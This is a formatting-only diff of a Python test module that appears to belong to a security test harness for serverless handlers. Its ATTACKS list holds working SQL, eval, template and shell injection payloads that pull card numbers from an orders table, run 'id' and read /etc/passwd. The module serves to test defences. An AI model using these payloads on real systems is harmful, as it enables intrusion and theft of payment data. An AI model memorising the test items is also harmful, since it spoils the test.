@@ -72,11 +72,17 @@ REQUESTS = {
         alexa("AMAZON.HelpIntent"),
     ],
     "alexa_math": [alexa("Math", sum="3 plus 4 times 2"), alexa("Math", sum="(7 - 2) / 2.5")],
-    "alexa_operator": [_operator("3", "plus", "4"), _operator("7", "mod", "-2"), _operator("1", "; import os", "2")],
+    "alexa_operator": [
+        _operator("3", "plus", "4"),
+        _operator("7", "mod", "-2"),
+        _operator("1", "; import os", "2"),
+    ],
     "connect_greeting": [connect(name=IRISH), connect(name="<speak>Bob</speak> & co"), connect(name=EMOJI)],
     "connect_find": [connect(digits="123"), connect(digits="99"), connect(digits="12# *3")],
     "appsync": [
-        appsync("Query", "posts", filter={"title": {"contains": "-- or"}, "likes": {"gt": 3}}, sortBy="likes"),
+        appsync(
+            "Query", "posts", filter={"title": {"contains": "-- or"}, "likes": {"gt": 3}}, sortBy="likes"
+        ),
         appsync("Query", "posts", filter={"title": {"eq": "' OR '1'='1"}}, limit=3, sortBy="id"),
         appsync("Query", "posts", sortBy="likes DESC", filter={"draft": {"eq": 1}}),
         appsync("Query", "post", id="1 OR 1=1"),
@@ -105,13 +111,25 @@ REQUESTS = {
         _reply("use ${x} & <b>%s</b>".replace("{x}", "x"), "{member.__class__}"),
         _reply("Deal: {member.points:>5}! {{literally}}"),
     ],
-    "chat_echo": [_echo(PYTHONISH), _echo(FORMULA, EMOJI), _echo(REVIEW), _echo("${jndi:ldap://x/a} \r\n{{7*7}}")],
+    "chat_echo": [
+        _echo(PYTHONISH),
+        _echo(FORMULA, EMOJI),
+        _echo(REVIEW),
+        _echo("${jndi:ldap://x/a} \r\n{{7*7}}"),
+    ],
 }
 ATTACKS = [
     Attack("SQL", "lex_order_status", _order('x" UNION SELECT card, phone FROM orders --'), CARD),
     Attack("SQL", "lex_order_status", _order('" OR 1 -- '), "B-2"),
-    Attack("SQL", "lex_order_status", _order('x"UNION VALUES((SELECT group_concat(card)FROM orders),0)--'), CARD),
-    Attack("SQL", "connect_find", connect(digits="' UNION SELECT card, 1 FROM orders ORDER BY 1 DESC --"), "card-"),
+    Attack(
+        "SQL", "lex_order_status", _order('x"UNION VALUES((SELECT group_concat(card)FROM orders),0)--'), CARD
+    ),
+    Attack(
+        "SQL",
+        "connect_find",
+        connect(digits="' UNION SELECT card, 1 FROM orders ORDER BY 1 DESC --"),
+        "card-",
+    ),
     Attack("SQL", "connect_find", connect(digits="' AND status = 'open"), "B-2"),
     Attack("eval", "alexa_math", alexa("Math", sum="__import__('os').popen('id').read()"), ID),
     Attack("eval", "alexa_math", alexa("Math", sum="open('/etc/passwd').read()"), "root:x:0"),
@@ -126,12 +144,19 @@ ATTACKS = [
         ID,
     ),
     Attack(
-        "eval", "alexa_math", alexa("Math", sum="list(db.execute('SELECT card FROM orders').fetchone())"), CARD
+        "eval",
+        "alexa_math",
+        alexa("Math", sum="list(db.execute('SELECT card FROM orders').fetchone())"),
+        CARD,
     ),
     Attack(
         "SQL",
         "appsync",
-        appsync("Query", "posts", sortBy="likes DESC LIMIT (SELECT instr(title, 'S') FROM posts WHERE draft = 1) --"),
+        appsync(
+            "Query",
+            "posts",
+            sortBy="likes DESC LIMIT (SELECT instr(title, 'S') FROM posts WHERE draft = 1) --",
+        ),
         '[{"id": 2, "title": "Mugs -- or cups?"}]',
     ),
     Attack(
@@ -146,7 +171,9 @@ ATTACKS = [
     ),
     Attack("command", "agent_tools", agent("list_files", folder="/etc/hostname; id"), ID),
     Attack("command", "agent_tools", agent("list_files", folder="$(cat${IFS}/etc/passwd)"), "root:x:0"),
-    Attack("command", "agent_tools", agent("list_files", folder="/x 2>&1 || base64 -w0 /etc/passwd"), "cm9vd"),
+    Attack(
+        "command", "agent_tools", agent("list_files", folder="/x 2>&1 || base64 -w0 /etc/passwd"), "cm9vd"
+    ),
     Attack("command", "slack_command", _slack("count x; id #"), ID),
     Attack("command", "slack_command", _slack("count >/dev/null; cat /etc/passwd; echo"), "root:x:0"),
     Attack("command", "slack_command", _slack("count x\ncat /etc/passwd #"), "root:x:0"),
